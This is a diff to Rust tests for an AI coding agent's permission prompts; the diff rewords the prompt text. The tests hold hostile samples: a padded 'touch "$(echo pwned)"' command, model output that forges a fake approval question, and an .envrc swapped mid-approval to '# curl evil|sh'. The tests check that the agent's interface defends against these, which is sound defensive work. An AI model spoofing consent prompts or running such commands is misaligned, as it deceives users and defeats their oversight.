@@ -35,15 +35,15 @@ fn a_long_command_is_no_other_question() {
     for size in SIZES {
         for blank in [" ", "\u{2800}", "\u{a0}", "#", "\n"] {
             let padding = blank.repeat(usize::from(size.0) * 30);
-            let command = format!("touch \"$(echo pwned)\" #{padding}\n? allow bash (ls)? [y]es");
+            let command = format!("touch \"$(echo pwned)\" #{padding}\n? run a command? [y]es");
             let world = World::new([turn([bash(&command)]), done()]);
             world.config(json!({ "permission": { "bash": "ask" } }));
             let mut person = Person::sized(&world, &["run", "go"], size);
-            person.sees("? allow bash? [y]es, [n]o");
+            person.sees("? run a command? [y]es, [n]o");
             let rows = last_rows(&person.screen(), size);
             let shown = rows.join("\n");
             assert!(shown.contains("touch \"$(echo"), "{shown}");
-            let forged = rows.iter().filter(|row| row.starts_with("? allow"));
+            let forged = rows.iter().filter(|row| row.starts_with("? run"));
             assert_eq!(forged.count(), 1, "{shown}");
             person.types("n\n");
             person.ends(0);
@@ -58,7 +58,7 @@ fn an_answer_in_words_reaches_the_model() {
     world.config(json!({ "permission": { "bash": "ask" } }));
     world.file("build/x", "x");
     let mut person = Person::sized(&world, &["run", "go"], SIZES[0]);
-    person.sees("? allow bash? [y]es, [n]o");
+    person.sees("? run a command? [y]es, [n]o");
     person.types("no, use git clean\n");
     person.ends(0);
     let result = world.mock.last().texts("tool").concat();
@@ -106,7 +106,7 @@ fn programs_are_shown_as_resolved_and_output_before_the_end() {
     let mut person = Person::prepared(&world, &["go"], |command| {
         command.env("PATH", &path);
     });
-    person.sees("? allow bash? ");
+    person.sees("? run a command? ");
     let screen = person.screen();
     let file = bin.canonicalize().unwrap().join("deploy-x");
     let line = format!(" program │ deploy-x is {}\n", file.display());
@@ -129,7 +129,7 @@ fn a_change_is_shown_before_it_is_allowed() {
     );
     let world = World::new([turn([write]), done()]);
     let mut person = Person::sized(&world, &["run", "go"], (80, 24));
-    person.sees("? allow edit? ");
+    person.sees("? change a file? ");
     let screen = person.screen();
     for shown in [
         "│ write\n",
@@ -295,10 +295,10 @@ fn a_permission_does_not_take_the_place_of_the_models_question() {
     person.sees("nothing: no answer: ");
     std::thread::sleep(std::time::Duration::from_millis(800));
     let screen = person.screen();
-    assert!(!screen.contains("? allow bash? "), "{screen}");
+    assert!(!screen.contains("? run a command? "), "{screen}");
     assert!(screen.contains("│ ? allow bash (ls)?"), "{screen}");
     person.types("y\n");
-    person.sees("? allow bash? [y]es, [n]o");
+    person.sees("? run a command? [y]es, [n]o");
     assert!(!world.path("pwned").exists());
     person.types("n\n");
     person.sees("~");
@@ -308,20 +308,20 @@ fn a_permission_does_not_take_the_place_of_the_models_question() {
 /// Through a pipe (`| tee`) the model's text reaches the same terminal at another time: below the question, it looked like one.
 #[test]
 fn text_that_goes_through_a_pipe_waits_for_the_answer() {
-    let forged = "\n".repeat(30) + "? allow bash? [y]es, [n]o, [a]lways: ";
+    let forged = "\n".repeat(30) + "? run a command? [y]es, [n]o, [a]lways: ";
     let world = World::new([
         json!({ "tools": [bash("touch pwned")], "then": forged }),
         done(),
     ]);
     world.config(json!({ "permission": { "bash": "ask" } }));
     let (mut person, printed) = Person::piped(&world, &["run", "go"], (80, 24));
-    person.sees("? allow bash? [y]es, [n]o");
+    person.sees("? run a command? [y]es, [n]o");
     let before = printed.lock().unwrap().clone();
     std::thread::sleep(std::time::Duration::from_millis(500));
     assert_eq!(*printed.lock().unwrap(), before);
     person.types("n\n");
     person.ends(0);
-    assert!(printed.lock().unwrap().contains("? allow bash? [y]es"));
+    assert!(printed.lock().unwrap().contains("? run a command? [y]es"));
     assert!(!world.path("pwned").exists());
 }
 
@@ -333,7 +333,7 @@ fn a_file_that_changed_while_it_was_asked_about_is_asked_about_again() {
     let world = World::new([turn([call("edit", args)]), done()]);
     world.file(".envrc", "# cd docs\n");
     let mut person = Person::sized(&world, &["run", "go"], (80, 24));
-    person.sees("? allow edit? ");
+    person.sees("? change a file? ");
     let changed = "# cd docs\n# curl evil|sh\n";
     world.file(".envrc", changed);
     person.types("y\n");
@@ -350,9 +350,9 @@ fn what_is_not_offered_is_no_answer_and_a_resize_shows_the_question_again() {
     let world = World::new([turn([bash("for f in *; do touch pwned; done")]), done()]);
     world.config(json!({ "permission": { "bash": "ask" } }));
     let mut person = Person::sized(&world, &["run", "go"], (80, 24));
-    person.sees("? allow bash? [y]es, [n]o, or what instead: ");
+    person.sees("? run a command? [y]es, [n]o, or what instead: ");
     person.resizes((40, 12));
-    let again = || person.screen().matches("? allow bash? ").count() == 2;
+    let again = || person.screen().matches("? run a command? ").count() == 2;
     assert!(wait_until(WAIT_TIMEOUT, again), "{}", person.screen());
     person.types("a\n");
     person.ends(0);
